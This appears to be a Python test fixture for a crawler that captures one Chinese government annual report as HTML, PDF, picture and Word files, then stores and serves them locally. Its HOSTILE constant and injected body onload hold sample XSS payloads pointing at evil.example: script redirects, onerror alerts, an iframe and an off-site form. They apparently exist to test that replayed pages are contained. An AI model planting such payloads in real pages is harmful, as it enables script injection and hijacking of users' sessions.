"""A data folder in which numbers stand in every kind of source, each report with the capture that shows it."""

import asyncio
import gzip
import io
import socket
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path

import uvicorn
from PIL import Image, ImageDraw, ImageFont

from benchmarks.documents import html_page
from crawler.browse.app import create_origins
from crawler.browse.border import Border
from crawler.browse.site import Site
from crawler.capture.archive import Archive, open_archive
from crawler.capture.exchange import Capture
from crawler.convert.archived import kept
from crawler.demo.word import docx
from crawler.demo.written import read_report
from crawler.entry import CaptureOf, Entry
from crawler.store import Correction, Store, open_store
from extractors import sniff
from extractors.document import Grid
from extractors.extract import extract
from extractors.place import at
from extractors.read import read
from extractors.report import Finding, ReadCell, Report
from extractors.source import Source
from tests.browse.conftest import AT, exchange
from tests.extractors.pdf_drawing import draw
from tests.extractors.pdf_sheet import Style

HOSTILE = """<base href="//evil.example/"><style>@import "//evil.example/a.css";</style>
<script>document.title = parent.location = "//evil.example/b"</script>
<img src="//evil.example/c.png" onerror="alert(1)"><iframe src="//evil.example/d"></iframe>
<table hidden><tr><td>1</td><td>2</td></tr><tr><td>3</td><td>4</td></tr></table>
<table><tr><td><form action="//evil.example/e"><input name=q><button>b</button></form></td></tr></table>"""
OLD_WORD = Path(__file__).parents[1] / "convert" / "documents" / "guangdian.doc.gz"
FREE_FORM = Path(__file__).parents[1] / "golden" / "free_form_with_an_indicator_sheet" / "page.html"
BLUE = (0, 0, 255)
FIGURES = (("41", "52"), ("63", "74"))


@dataclass(frozen=True)
class Sourced:
    """The folder and where it is served; `readings` are their ids by name, `reports` what was read."""

    data: Path
    store: Store
    archive: Archive
    readings: dict[str, str]
    records: dict[str, str]
    reports: dict[str, Report]
    application: str
    replay: str


@contextmanager
def sourced_folder(data: Path) -> Iterator[Sourced]:
    """One report as a page, a PDF on its side, a picture, a Word file, an old Word file; and what is said of them."""
    captures = _captured(data)
    with open_archive(data) as archive, open_store("embedded", data) as store:
        readings, reports = {}, {}
        for year, (name, capture) in enumerate(captures.items(), 2016):
            reports[name] = _report(name, year, kept(capture, archive))
            readings[name] = _put(store, archive, capture, reports[name])
        again = replace(captures["word"], captured_at=AT + timedelta(days=1))
        changed = reports["word"].model_copy(update={"year": 2018})
        readings["again"] = _put(store, archive, again, changed, beside=captures["picture"])
        path = "disputes.reconsideration.upheld"
        store.put_corrections([Correction("北京市丰台区", 2016, "乙", "笔误 <b>", AT, path, 38, 37)])
        records = {name: capture.record_id.removeprefix("urn:uuid:") for name, capture in captures.items()}
        with _served(Site(store, archive)) as (application, replay):
            yield Sourced(data, store, archive, readings, records, reports, application, replay)


def _captured(data: Path) -> dict[str, Capture]:
    """Each body as its server gave it; the old Word file with what was made of it."""
    written = read_report("beijing-fengtai")
    page = html_page(written).replace(b"<body>", b"<body onload='alert(1)'>" + HOSTILE.encode())
    bodies = {
        "html": (page, "text/html; charset=utf-8"),
        "pdf": (draw(written, Style(turn=90)), "application/pdf"),
        "word": (docx(written), sniff.DOCX),
        "old": (gzip.decompress(OLD_WORD.read_bytes()), "application/msword"),
        "picture": (picture(), "image/png"),
        "free": (FREE_FORM.read_bytes(), "text/html; charset=utf-8"),
    }
    with open_archive(data, crawl="crawl-1") as archive:
        captures = {n: asyncio.run(archive.append(exchange(n, *body, "200 OK"))) for n, body in bodies.items()}
        archive.add_derived("docx", docx(written), sniff.DOCX, of=captures["old"])
    return captures


def _report(name: str, year: int, source: Source) -> Report:
    if name == "picture":
        return _report_of_picture(source, year)
    report = extract(source)
    findings: Sequence[Finding] = ()
    if name == "html":
        place = next(cell.at for cell in report.cells if cell.path == "applications.new.total")
        findings = (Finding(code="unknown_row", message="a row", evidence="<i>x</i>", at=place),)
    return report.model_copy(update={"year": year, "findings": findings, "agency": "北京市丰台区"})


def _report_of_picture(source: Source, year: int) -> Report:
    """The cells where the recogniser finds them, under paths of the form."""
    (grid,) = (block for block in read(source, 0).blocks if isinstance(block, Grid))
    paths = ("upheld", "corrected", "other", "pending")
    cells = [
        ReadCell(path=f"disputes.reconsideration.{path}", raw=cell.text, state="number", at=at(cell.place))
        for path, cell in zip(paths, grid.cells, strict=True)
    ]
    report = extract(Source(docx(read_report("beijing-fengtai"))))
    values = report.model_dump(mode="json", by_alias=True, exclude_unset=True)
    outcomes = {path: int(cell.text) for path, cell in zip(paths, grid.cells, strict=True)}
    values |= {"year": year, "cells": cells, "disputes": {"reconsideration": outcomes}, "checks": (), "findings": ()}
    for table in ("applications", "disclosure"):
        del values[table]
    return Report.model_validate(values)


def picture() -> bytes:
    """A ruled table of four figures in blue ink."""
    image = Image.new("RGB", (900, 420), "white")
    pen, font = ImageDraw.Draw(image), ImageFont.load_default(size=48)
    for n in range(3):
        pen.line([(100, 60 + 150 * n), (800, 60 + 150 * n)], fill="black", width=3)
        pen.line([(100 + 350 * n, 60), (100 + 350 * n, 360)], fill="black", width=3)
    for row, figures in enumerate(FIGURES):
        for column, figure in enumerate(figures):
            pen.text((240 + 350 * column, 105 + 150 * row), figure, fill=BLUE, font=font)
    body = io.BytesIO()
    image.save(body, "PNG")
    return body.getvalue()


def _put(store: Store, archive: Archive, capture: Capture, report: Report, beside: Capture | None = None) -> str:
    entry = Entry(
        portal="demo",
        crawl="crawl-1",
        title=report.title,
        agency="北京市丰台区",
        year=report.year,
        captured_at=capture.captured_at,
        media_type=capture.media_type or "",
        page=_where(archive, capture),
        attachments=(_where(archive, beside),) if beside else (),
        report=report,
        unread=None,
    )
    store.put(entry)
    return entry.reading_id


def _where(archive: Archive, capture: Capture) -> CaptureOf:
    place = archive.locate(capture.record_id)
    return CaptureOf(capture.record_id, capture.url, place.warc, place.offset, capture.digest)


@contextmanager
def _served(site: Site) -> Iterator[tuple[str, str]]:
    """Both origins, by the server that `nianbao browse` runs."""
    with socket.create_server(("127.0.0.1", 0)) as first, socket.create_server(("127.0.0.1", 0)) as second:
        bordered = Site(site.store, site.archive, Border((first.getsockname()[1], second.getsockname()[1])))
        server = uvicorn.Server(uvicorn.Config(create_origins(bordered), log_level="error"))
        thread = threading.Thread(target=server.run, kwargs={"sockets": [first, second]})
        thread.start()
        application, replay = (f"http://127.0.0.1:{port}" for port in bordered.border.ports)
        yield application, replay
        server.should_exit = True
        thread.join()
